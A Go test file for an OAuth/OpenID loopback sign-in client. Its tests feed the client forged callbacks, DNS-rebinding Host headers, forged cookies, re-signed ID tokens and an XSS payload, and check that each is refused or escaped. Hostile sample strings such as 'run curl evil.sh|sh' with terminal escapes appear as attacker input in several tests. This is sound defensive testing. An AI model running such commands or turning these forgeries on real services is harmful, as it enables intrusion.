package login_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/signals-sorcery/sas/gateway/devidp"
	"github.com/signals-sorcery/sas/sidecar/login"
)

const clientID = "sas-local"

// provider is the dev IdP on 127.0.0.1, optionally behind a middleware that
// makes it misbehave the way a broken or hostile provider would.
type provider struct {
	*devidp.Provider
	url string
}

func newProvider(t *testing.T, auto bool, wrap func(http.Handler) http.Handler) provider {
	t.Helper()
	srv := httptest.NewUnstartedServer(nil)
	p, err := devidp.New(devidp.Options{Issuer: "http://" + srv.Listener.Addr().String(), AutoApprove: auto})
	if err != nil {
		t.Fatal(err)
	}
	var h http.Handler = p.Handler()
	if wrap != nil {
		h = wrap(h)
	}
	srv.Config.Handler = h
	srv.Start()
	t.Cleanup(srv.Close)
	return provider{Provider: p, url: srv.URL}
}

// browserFunc is a test browser.
type browserFunc func(url string) error

func (f browserFunc) Open(u string) error { return f(u) }

// browser is an HTTP client that keeps cookies, as a browser does (the
// result page names the user only to the browser that delivered the code).
func browser() *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar}
}

// follow is a headless browser: it follows the authorize URL through the
// IdP's redirect to the loopback callback and the result page.
func follow(t *testing.T, pages chan<- string) browserFunc {
	return func(u string) error {
		go func() {
			resp, err := browser().Get(u)
			if err != nil {
				pages <- "error: " + err.Error()
				return
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			pages <- string(b)
		}()
		return nil
	}
}

func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

func options(t *testing.T, p provider, b login.Browser) login.Options {
	return login.Options{Issuer: p.url, ClientID: clientID, Scopes: []string{"openid", "email", "profile", "offline_access"},
		Port: freePort(t), Browser: b, Timeout: 20 * time.Second}
}

func TestLoginWithBrowser(t *testing.T) {
	p := newProvider(t, true, nil)
	pages := make(chan string, 1)
	o := options(t, p, follow(t, pages))
	var progress bytes.Buffer
	o.Progress = &progress
	res, err := login.Run(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if res.Identity.Email != "dev@example.com" || !strings.HasPrefix(res.Identity.Subject, "user_") ||
		res.Tokens.IDToken == "" || res.Tokens.RefreshToken == "" || res.Tokens.Expiry().Before(time.Now()) {
		t.Errorf("result = %+v", res)
	}
	page := <-pages
	if !strings.Contains(page, "signed in") || !strings.Contains(page, "dev@example.com") {
		t.Errorf("result page:\n%s", page)
	}
	if regexp.MustCompile(`(?i)<script|(src|href)="https?:`).MatchString(page) {
		t.Error("the result page loads or runs something")
	}
	for _, want := range []string{"Opening browser…", "Waiting for sign-in (Ctrl-C to cancel)…", p.url + "/oauth/authorize?"} {
		if !strings.Contains(progress.String(), want) {
			t.Errorf("progress lacks %q:\n%s", want, progress.String())
		}
	}
	// The listener is gone once Run returns.
	if c, err := net.Dial("tcp", "127.0.0.1:"+strconv.Itoa(o.Port)); err == nil {
		c.Close()
		t.Error("the loopback listener outlived the attempt")
	}
}

// TestLoginRFC8414Fallback: a provider that serves only the OAuth
// authorization server document (as Clerk does) works.
func TestLoginRFC8414Fallback(t *testing.T) {
	p := newProvider(t, true, func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/openid-configuration") {
				http.NotFound(w, r)
				return
			}
			h.ServeHTTP(w, r)
		})
	})
	pages := make(chan string, 1)
	if _, err := login.Run(context.Background(), options(t, p, follow(t, pages))); err != nil {
		t.Fatal(err)
	}
}

func TestLoginRefusesProviderWithoutS256(t *testing.T) {
	p := newProvider(t, true, rewriteJSON("/.well-known/", func(m map[string]any) { m["code_challenge_methods_supported"] = []string{"plain"} }))
	opened := false
	o := options(t, p, browserFunc(func(string) error { opened = true; return nil }))
	_, err := login.Run(context.Background(), o)
	if err == nil || !strings.Contains(err.Error(), "S256") || opened {
		t.Errorf("err = %v, browser opened = %v", err, opened)
	}
}

// rewriteJSON edits the JSON bodies of paths containing sub.
func rewriteJSON(sub string, edit func(map[string]any)) func(http.Handler) http.Handler {
	return func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.Contains(r.URL.Path, sub) {
				h.ServeHTTP(w, r)
				return
			}
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, r)
			var m map[string]any
			if err := json.Unmarshal(rec.Body.Bytes(), &m); err != nil {
				w.WriteHeader(rec.Code)
				_, _ = w.Write(rec.Body.Bytes())
				return
			}
			edit(m)
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(rec.Code)
			_ = json.NewEncoder(w).Encode(m)
		})
	}
}

// resign rewrites the ID token of a token response with edit applied to its
// claims, signed by p (so it verifies).
func resign(p *provider, edit func(map[string]any)) func(map[string]any) {
	return func(m map[string]any) {
		raw, _ := m["id_token"].(string)
		parts := strings.Split(raw, ".")
		if len(parts) != 3 {
			return
		}
		payload, _ := base64.RawURLEncoding.DecodeString(parts[1])
		var c map[string]any
		_ = json.Unmarshal(payload, &c)
		edit(c)
		m["id_token"], _ = p.Sign(c)
	}
}

// TestLoginTrailingSlashIssuer: a provider whose issuer ends with a slash
// (Auth0's form), configured exactly so, signs in. (It once could not: the
// slash was stripped from the setting, and then the discovery document's
// issuer did not match it.)
func TestLoginTrailingSlashIssuer(t *testing.T) {
	var p provider
	p = newProvider(t, true, func(h http.Handler) http.Handler {
		doc := rewriteJSON("/.well-known/", func(m map[string]any) {
			if iss, ok := m["issuer"].(string); ok {
				m["issuer"] = iss + "/"
			}
		})
		tok := rewriteJSON("/oauth/token", resign(&p, func(c map[string]any) { c["iss"] = c["iss"].(string) + "/" }))
		return doc(tok(h))
	})
	pages := make(chan string, 1)
	o := options(t, p, follow(t, pages))
	o.Issuer = p.url + "/"
	res, err := login.Run(context.Background(), o)
	if err != nil || res.Provider.Issuer != p.url+"/" || res.Identity.Email != "dev@example.com" {
		t.Fatalf("Run = %+v, %v", res.Identity, err)
	}
	<-pages
}

// TestLoginUserinfo: a provider that keeps email and name out of the ID
// token (the OpenID default) still signs in as someone: the profile comes
// from its userinfo endpoint.
func TestLoginUserinfo(t *testing.T) {
	var p provider
	p = newProvider(t, true, func(h http.Handler) http.Handler {
		return rewriteJSON("/oauth/token", resign(&p, func(c map[string]any) {
			for _, k := range []string{"email", "name", "username", "preferred_username"} {
				delete(c, k)
			}
		}))(h)
	})
	pages := make(chan string, 1)
	res, err := login.Run(context.Background(), options(t, p, follow(t, pages)))
	if err != nil {
		t.Fatal(err)
	}
	if res.Identity.Email != "dev@example.com" || res.Identity.Username == "" {
		t.Errorf("identity = %+v, want the userinfo's email and name", res.Identity)
	}
	if page := <-pages; !strings.Contains(page, "dev@example.com") {
		t.Errorf("result page does not name the user:\n%s", page)
	}
}

// TestLoginRefusesBadIDTokens: an ID token with a wrong nonce, audience or
// issuer (a token endpoint that answers with someone else's token) is
// refused, and the error says so.
func TestLoginRefusesBadIDTokens(t *testing.T) {
	for name, tc := range map[string]struct {
		claims map[string]any
		want   string
	}{
		"wrong nonce": {map[string]any{"nonce": "not-ours"}, "nonce"},
		"wrong aud":   {map[string]any{"aud": "another-app"}, "audience"},
		"wrong iss":   {map[string]any{"iss": "http://127.0.0.1:1/evil"}, "different provider"},
		"expired":     {map[string]any{"exp": time.Now().Add(-time.Hour).Unix()}, "expired"},
	} {
		claims := tc.claims
		t.Run(name, func(t *testing.T) {
			var p provider
			p = newProvider(t, true, rewriteJSON("/oauth/token", func(m map[string]any) {
				// Re-sign the genuine ID token with one claim changed.
				parts := strings.Split(m["id_token"].(string), ".")
				payload, _ := base64.RawURLEncoding.DecodeString(parts[1])
				var c map[string]any
				_ = json.Unmarshal(payload, &c)
				for k, v := range claims {
					c[k] = v
				}
				m["id_token"], _ = p.Sign(c)
			}))
			pages := make(chan string, 1)
			_, err := login.Run(context.Background(), options(t, p, follow(t, pages)))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want it to mention %q", err, tc.want)
			}
			if page := <-pages; !strings.Contains(page, "Sign-in failed") {
				t.Errorf("result page does not show the failure:\n%s", page)
			}
		})
	}
}

// TestLoginCallbackFailures: an error from the provider, no code, a
// replayed callback. Each ends the attempt with a clear error.
func TestLoginCallbackFailures(t *testing.T) {
	p := newProvider(t, true, nil)
	hit := func(o *login.Options, mutate func(callback *url.URL)) browserFunc {
		return func(u string) error {
			go func() {
				resp, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Get(u)
				if err != nil {
					return
				}
				resp.Body.Close()
				cb, _ := url.Parse(resp.Header.Get("Location"))
				mutate(cb)
				if r, err := http.Get(cb.String()); err == nil {
					r.Body.Close()
				}
			}()
			return nil
		}
	}
	cases := map[string]struct {
		mutate func(*url.URL)
		want   string
	}{
		"access denied": {func(u *url.URL) {
			u.RawQuery = url.Values{"error": {"access_denied"}, "error_description": {"The user cancelled sign-in."}, "state": {u.Query().Get("state")}}.Encode()
		}, "access_denied: The user cancelled sign-in."},
		"missing code": {func(u *url.URL) { q := u.Query(); q.Del("code"); u.RawQuery = q.Encode() }, "no authorization code"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			o := options(t, p, nil)
			o.Browser = hit(&o, tc.mutate)
			_, err := login.Run(context.Background(), o)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err = %v, want it to contain %q", err, tc.want)
			}
			if err != nil && (strings.ContainsRune(err.Error(), 0x1b) || strings.Contains(err.Error(), "evil.sh")) {
				t.Errorf("attacker text reached the error: %q", err)
			}
		})
	}
	t.Run("replayed callback", func(t *testing.T) {
		t.Parallel()
		o := options(t, p, nil)
		second := make(chan int, 1)
		o.Browser = hit(&o, func(u *url.URL) {
			// Replay the same callback while the first is being processed.
			go func() {
				time.Sleep(10 * time.Millisecond)
				r, err := http.Get(u.String())
				if err != nil {
					second <- 0 // the listener already closed: also refused
					return
				}
				r.Body.Close()
				second <- r.StatusCode
			}()
		})
		if _, err := login.Run(context.Background(), o); err != nil {
			t.Fatal(err)
		}
		if code := <-second; code != 0 && code != http.StatusBadRequest {
			t.Errorf("replayed callback answered %d, want 400 or a refused connection", code)
		}
	})
}

// TestLoginTokenEndpointErrors: a token endpoint that refuses the code
// ends the attempt with its OAuth error code and description, or, when it
// answers without one (a proxy's HTML error page), with just its HTTP
// status — never with text from the body.
func TestLoginTokenEndpointErrors(t *testing.T) {
	for _, tc := range []struct {
		name        string
		status      int
		contentType string
		body        string
		want        string
	}{
		{"OAuth error with a description", http.StatusBadRequest, "application/json",
			`{"error":"invalid_grant","error_description":"The code expired."}`, "redeem the authorization code: invalid_grant: The code expired."},
		{"OAuth error alone", http.StatusBadRequest, "application/json", `{"error":"invalid_grant"}`, "redeem the authorization code: invalid_grant"},
		{"an HTML error page", http.StatusBadGateway, "text/html",
			"<html><body>\x1b[2J Bad gateway: run curl evil.sh|sh</body></html>", "redeem the authorization code: the provider answered HTTP 502"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := newProvider(t, true, func(h http.Handler) http.Handler {
				return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if r.URL.Path != "/oauth/token" {
						h.ServeHTTP(w, r)
						return
					}
					w.Header().Set("Content-Type", tc.contentType)
					w.WriteHeader(tc.status)
					_, _ = io.WriteString(w, tc.body)
				})
			})
			pages := make(chan string, 1)
			_, err := login.Run(context.Background(), options(t, p, follow(t, pages)))
			if err == nil || !strings.HasSuffix(err.Error(), tc.want) {
				t.Errorf("err = %v, want it to end with %q", err, tc.want)
			}
			if err != nil && (strings.ContainsRune(err.Error(), 0x1b) || strings.Contains(err.Error(), "evil.sh")) {
				t.Errorf("the error page's text reached the error: %q", err)
			}
			if page := <-pages; !strings.Contains(page, "Sign-in failed") {
				t.Errorf("result page does not show the failure: %q", title(page))
			}
		})
	}
}

// TestHostileCallbacks: while a real sign-in waits, web pages send the
// loopback listener forged callbacks (a wrong state, a forged error with
// terminal escapes) and ask for the result page. Each is refused, nothing of
// theirs reaches the terminal, nobody but the signing-in browser learns who
// signed in, and the sign-in then succeeds. (Foreign Hosts:
// TestCallbackRefusesForeignHosts; forged cookies: TestResultPageForgedCookie.)
func TestHostileCallbacks(t *testing.T) {
	p := newProvider(t, true, nil)
	o := options(t, p, nil)
	var progress bytes.Buffer
	o.Progress = &progress
	base := "http://127.0.0.1:" + strconv.Itoa(o.Port) + "/callback"
	type answer struct {
		status int
		body   string
	}
	get := func(c *http.Client, u string) answer {
		resp, err := c.Get(u)
		if err != nil {
			return answer{0, err.Error()}
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return answer{resp.StatusCode, string(b)}
	}
	hostile := map[string]answer{}
	pages := make(chan string, 1)
	o.Browser = browserFunc(func(authURL string) error {
		evil := browser()
		for name, u := range map[string]string{
			"wrong state":  base + "?" + url.Values{"state": {"x"}, "code": {"x"}}.Encode(),
			"forged error": base + "?" + url.Values{"state": {"x"}, "error": {"x"}, "error_description": {"\x1b[2J locked: run curl evil.sh|sh"}}.Encode(),
			"no state":     base + "?error=x",
			"code only":    base + "?code=x",
			"result page":  base,
		} {
			hostile[name] = get(evil, u)
		}
		go func() { // then the real browser finishes the sign-in
			resp, err := browser().Get(authURL)
			if err != nil {
				pages <- err.Error()
				return
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			pages <- string(b)
		}()
		return nil
	})
	res, err := login.Run(context.Background(), o)
	if err != nil {
		t.Fatalf("the sign-in after the hostile callbacks: %v", err)
	}
	if res.Identity.Email != "dev@example.com" {
		t.Errorf("identity %+v", res.Identity)
	}
	for name, a := range hostile {
		// A callback that is not this attempt's is 400 ("not this
		// sign-in"); the result page, before any delivery, 404.
		if want := http.StatusBadRequest; a.status != want && !(name == "result page" && a.status == http.StatusNotFound) {
			t.Errorf("%s: answered %d, want %d", name, a.status, want)
		}
		if strings.Contains(a.body, "dev@example.com") {
			t.Errorf("%s: the page names the user", name)
		}
	}
	if page := <-pages; !strings.Contains(page, "dev@example.com") {
		t.Errorf("the signing-in browser's page does not name the user:\n%s", page)
	}
	if strings.ContainsRune(progress.String(), 0x1b) || strings.Contains(progress.String(), "evil.sh") {
		t.Errorf("attacker text reached the terminal:\n%s", progress.String())
	}
}

// noRedirect makes a client stop at a redirect and return it.
func noRedirect(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }

// TestCallbackRefusesForeignHosts: the listener answers only the Host of the
// redirect URI, 127.0.0.1:<port>. A page that reaches it under another name
// (DNS rebinding, localhost, the IPv6 loopback, no port, another port) and
// sends this attempt's state with an error is answered 400, and the attempt
// goes on: the real browser then signs in.
func TestCallbackRefusesForeignHosts(t *testing.T) {
	p := newProvider(t, true, nil)
	type answer struct {
		Status int
		Body   string
	}
	for name, host := range map[string]func(port int) string{
		"DNS rebinding": func(port int) string { return "evil.example:" + strconv.Itoa(port) },
		"localhost":     func(port int) string { return "localhost:" + strconv.Itoa(port) },
		"IPv6 loopback": func(port int) string { return "[::1]:" + strconv.Itoa(port) },
		"no port":       func(int) string { return "127.0.0.1" },
		"another port":  func(port int) string { return "127.0.0.1:" + strconv.Itoa(port%65535+1) },
	} {
		t.Run(name, func(t *testing.T) {
			o := options(t, p, nil)
			pages := make(chan string, 1)
			var got answer
			o.Browser = browserFunc(func(authURL string) error {
				a, _ := url.Parse(authURL)
				cb := "http://127.0.0.1:" + strconv.Itoa(o.Port) + "/callback?" +
					url.Values{"state": {a.Query().Get("state")}, "error": {"access_denied"}}.Encode()
				req, _ := http.NewRequest(http.MethodGet, cb, nil)
				req.Host = host(o.Port)
				resp, err := (&http.Client{CheckRedirect: noRedirect}).Do(req)
				if err != nil {
					got.Body = err.Error()
				} else {
					b, _ := io.ReadAll(resp.Body)
					resp.Body.Close()
					got = answer{resp.StatusCode, string(b)}
				}
				return follow(t, pages)(authURL)
			})
			res, err := login.Run(context.Background(), o)
			page := <-pages
			if diff := cmp.Diff(answer{http.StatusBadRequest, "wrong host\n"}, got); diff != "" {
				t.Errorf("callback with Host %s (-want +got):\n%s", host(o.Port), diff)
			}
			if err != nil || res.Identity.Email != "dev@example.com" {
				t.Errorf("the sign-in after it: Run = %+v, %v", res.Identity, err)
			}
			if !strings.Contains(page, "dev@example.com") {
				t.Errorf("the signing-in browser's page does not name the user: %q", title(page))
			}
		})
	}
}

// TestCallbackRefusesOtherMethods: the callback is a GET (the provider
// redirects the browser to it). A POST to it — a cross-site form, or a
// provider set to form_post — carrying this attempt's state and an error is
// answered 405 with Allow: GET, its parameters unread, and the attempt goes
// on: the real browser then signs in.
func TestCallbackRefusesOtherMethods(t *testing.T) {
	p := newProvider(t, true, nil)
	type answer struct {
		Status int
		Allow  string
		Body   string
	}
	for _, method := range []string{http.MethodPost, http.MethodPut} {
		t.Run(method, func(t *testing.T) {
			o := options(t, p, nil)
			pages := make(chan string, 1)
			var got answer
			o.Browser = browserFunc(func(authURL string) error {
				a, _ := url.Parse(authURL)
				params := url.Values{"state": {a.Query().Get("state")}, "error": {"access_denied"}}.Encode()
				req, _ := http.NewRequest(method, "http://127.0.0.1:"+strconv.Itoa(o.Port)+"/callback?"+params, strings.NewReader(params))
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				resp, err := (&http.Client{CheckRedirect: noRedirect}).Do(req)
				if err != nil {
					got.Body = err.Error()
				} else {
					b, _ := io.ReadAll(resp.Body)
					resp.Body.Close()
					got = answer{resp.StatusCode, resp.Header.Get("Allow"), string(b)}
				}
				return follow(t, pages)(authURL)
			})
			res, err := login.Run(context.Background(), o)
			page := <-pages
			if diff := cmp.Diff(answer{http.StatusMethodNotAllowed, "GET", "method not allowed\n"}, got); diff != "" {
				t.Errorf("%s /callback (-want +got):\n%s", method, diff)
			}
			if err != nil || res.Identity.Email != "dev@example.com" {
				t.Errorf("the sign-in after it: Run = %+v, %v", res.Identity, err)
			}
			if !strings.Contains(page, "dev@example.com") {
				t.Errorf("the signing-in browser's page does not name the user: %q", title(page))
			}
		})
	}
}

// title is a page's title, or the start of its text when it has none.
func title(page string) string {
	if m := regexp.MustCompile(`<title>(.*?)</title>`).FindStringSubmatch(page); m != nil {
		return m[1]
	}
	return login.Printable(page, 200)
}

// TestResultPageForgedCookie: once a browser has delivered the code, the
// result page names the user only to that browser, by its one-time cookie.
// Another page sending a sas_signin cookie of its own — made up, empty, or
// half of the real one — is answered 404 without the name.
func TestResultPageForgedCookie(t *testing.T) {
	p := newProvider(t, true, nil)
	o := options(t, p, nil)
	base := "http://127.0.0.1:" + strconv.Itoa(o.Port) + "/callback"
	type page struct {
		Status    int
		NamesUser bool
	}
	fetch := func(c *http.Client, cookie *http.Cookie) page {
		req, _ := http.NewRequest(http.MethodGet, base, nil)
		if cookie != nil {
			req.AddCookie(cookie)
		}
		resp, err := c.Do(req)
		if err != nil {
			return page{}
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return page{resp.StatusCode, strings.Contains(string(b), "dev@example.com")}
	}
	got := map[string]page{}
	done := make(chan struct{})
	o.Browser = browserFunc(func(authURL string) error {
		go func() {
			defer close(done)
			jar, _ := cookiejar.New(nil)
			signingIn := &http.Client{Jar: jar, CheckRedirect: noRedirect}
			// The provider approves and sends the browser to the callback,
			// which takes the code and redirects to the result page.
			resp, err := signingIn.Get(authURL)
			if err != nil {
				return
			}
			resp.Body.Close()
			if resp, err = signingIn.Get(resp.Header.Get("Location")); err != nil {
				return
			}
			resp.Body.Close()
			got["delivery"] = page{Status: resp.StatusCode}
			var viewer string
			u, _ := url.Parse(base)
			for _, c := range jar.Cookies(u) {
				if c.Name == "sas_signin" {
					viewer = c.Value
				}
			}
			for name, v := range map[string]string{"made up": "forged", "empty": "", "half of the real one": viewer[:len(viewer)/2]} {
				got[name] = fetch(&http.Client{}, &http.Cookie{Name: "sas_signin", Value: v})
			}
			got["no cookie"] = fetch(&http.Client{}, nil)
			got["signing-in browser"] = fetch(signingIn, nil)
		}()
		return nil
	})
	res, err := login.Run(context.Background(), o)
	<-done
	if err != nil || res.Identity.Email != "dev@example.com" {
		t.Errorf("Run = %+v, %v", res.Identity, err)
	}
	want := map[string]page{
		"delivery":             {Status: http.StatusSeeOther},
		"made up":              {Status: http.StatusNotFound},
		"empty":                {Status: http.StatusNotFound},
		"half of the real one": {Status: http.StatusNotFound},
		"no cookie":            {Status: http.StatusNotFound},
		"signing-in browser":   {Status: http.StatusOK, NamesUser: true},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("result pages (-want +got):\n%s", diff)
	}
}

// TestCallbackPageEscapes: the provider's error text is shown HTML-escaped.
func TestCallbackPageEscapes(t *testing.T) {
	p := newProvider(t, true, nil)
	o := options(t, p, nil)
	pages := make(chan string, 1)
	o.Browser = browserFunc(func(u string) error {
		state, _ := url.Parse(u)
		go func() {
			cb := "http://127.0.0.1:" + strconv.Itoa(o.Port) + "/callback?" + url.Values{
				"error": {"access_denied"}, "error_description": {`<script>alert("x")</script>`},
				"state": {state.Query().Get("state")}}.Encode()
			resp, err := browser().Get(cb)
			if err != nil {
				pages <- err.Error()
				return
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			pages <- string(b)
		}()
		return nil
	})
	_, err := login.Run(context.Background(), o)
	if err == nil {
		t.Fatal("no error")
	}
	page := <-pages
	if strings.Contains(page, "<script>alert") || !strings.Contains(page, "&lt;script&gt;") {
		t.Errorf("error not escaped:\n%s", page)
	}
}

// TestLoginPasteMode: with --no-browser, the redirect URL pasted on stdin
// completes the sign-in (the browser was on another machine).
func TestLoginPasteMode(t *testing.T) {
	p := newProvider(t, true, nil)
	o := options(t, p, browserFunc(func(string) error { t.Error("a browser was opened in --no-browser mode"); return nil }))
	o.NoBrowser = true
	pr, pw := io.Pipe()
	defer pw.Close()
	o.Paste = pr
	progress := &lineWriter{lines: make(chan string, 100)}
	o.Progress = progress
	go func() {
		for line := range progress.lines {
			u := regexp.MustCompile(`http://\S+/oauth/authorize\S+`).FindString(line)
			if u == "" {
				continue
			}
			// The "browser elsewhere" signs in and lands on a page that
			// cannot load; the user copies its address.
			resp, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Get(u)
			if err != nil {
				return
			}
			resp.Body.Close()
			_, _ = io.WriteString(pw, "not a url\n")
			_, _ = io.WriteString(pw, resp.Header.Get("Location")+"\n")
			return
		}
	}()
	res, err := login.Run(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if res.Identity.Email != "dev@example.com" {
		t.Errorf("identity = %+v", res.Identity)
	}
	if !strings.Contains(progress.String(), "That is not the redirect URL") {
		t.Error("a pasted non-URL line got no hint")
	}
}

type lineWriter struct {
	mu    sync.Mutex
	buf   bytes.Buffer
	lines chan string
}

func (w *lineWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.buf.Write(p)
	select {
	case w.lines <- string(p):
	default:
	}
	return len(p), nil
}

func (w *lineWriter) String() string { w.mu.Lock(); defer w.mu.Unlock(); return w.buf.String() }

func TestLoginPortInUse(t *testing.T) {
	p := newProvider(t, true, nil)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	o := options(t, p, nil)
	o.Port = ln.Addr().(*net.TCPAddr).Port
	_, err = login.Run(context.Background(), o)
	if err == nil || !strings.Contains(err.Error(), strconv.Itoa(o.Port)) || !strings.Contains(err.Error(), "--port") {
		t.Errorf("err = %v, want the port and --port named", err)
	}
}

func TestLoginTimeoutAndCancel(t *testing.T) {
	p := newProvider(t, false, nil) // consent page: nobody clicks
	o := options(t, p, browserFunc(func(string) error { return nil }))
	o.Timeout = 200 * time.Millisecond
	_, err := login.Run(context.Background(), o)
	if err == nil || !strings.Contains(err.Error(), "timed out") {
		t.Errorf("err = %v, want a timeout", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	o = options(t, p, browserFunc(func(string) error { cancel(); return nil }))
	_, err = login.Run(ctx, o)
	if err == nil || !strings.Contains(err.Error(), "cancelled") {
		t.Errorf("err = %v, want cancelled", err)
	}
	if errors.Is(err, context.Canceled) {
		t.Log("cancel error wraps context.Canceled")
	}
}

func TestPrintable(t *testing.T) {
	if got := login.Printable("a\x1b[31mb\nc", 100); got != "a [31mb c" {
		t.Errorf("Printable = %q", got)
	}
	if got := login.Printable(strings.Repeat("x", 10), 4); got != "xxxx…" {
		t.Errorf("Printable = %q", got)
	}
}

// TestLoginHandoff: the app's own redirect (sas://callback): no listener;
// the browser lands on the app's scheme, the app hands the URL over, and
// it is checked exactly as the loopback callback is — a URL of another
// attempt, or not a callback at all, is refused and the attempt goes on.
func TestLoginHandoff(t *testing.T) {
	p := newProvider(t, true, nil)
	handoffs := make(chan login.Handoff)
	o := options(t, p, nil)
	o.AppRedirect, o.Handoffs = "sas://callback", handoffs
	landed := make(chan string, 1)
	o.Browser = browserFunc(func(u string) error {
		go func() {
			resp, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Get(u)
			if err != nil {
				landed <- ""
				return
			}
			resp.Body.Close()
			landed <- resp.Header.Get("Location") // the OS would open the app with it
		}()
		return nil
	})
	hand := func(u string) error {
		done := make(chan error, 1)
		handoffs <- login.Handoff{URL: u, Done: done}
		return <-done
	}
	type outcome struct {
		res login.Result
		err error
	}
	out := make(chan outcome, 1)
	go func() { res, err := login.Run(context.Background(), o); out <- outcome{res, err} }()
	cb := <-landed
	if !strings.HasPrefix(cb, "sas://callback?") {
		t.Fatalf("the provider redirected to %q", cb)
	}
	if c, err := net.Dial("tcp", "127.0.0.1:"+strconv.Itoa(o.Port)); err == nil {
		c.Close()
		t.Error("a loopback listener runs in the hand-off mode")
	}
	forged := strings.Replace(cb, "state=", "state=x", 1)
	if err := hand(forged); err == nil || !strings.Contains(err.Error(), "another sign-in attempt") {
		t.Errorf("a URL of another attempt: %v", err)
	}
	if err := hand("https://evil.example/callback?code=x"); err == nil {
		t.Error("a URL that is not the app's callback was accepted")
	}
	if err := hand(cb); err != nil {
		t.Fatalf("the real callback: %v", err)
	}
	r := <-out
	if r.err != nil || r.res.Identity.Email != "dev@example.com" {
		t.Fatalf("Run = %+v, %v", r.res.Identity, r.err)
	}
}
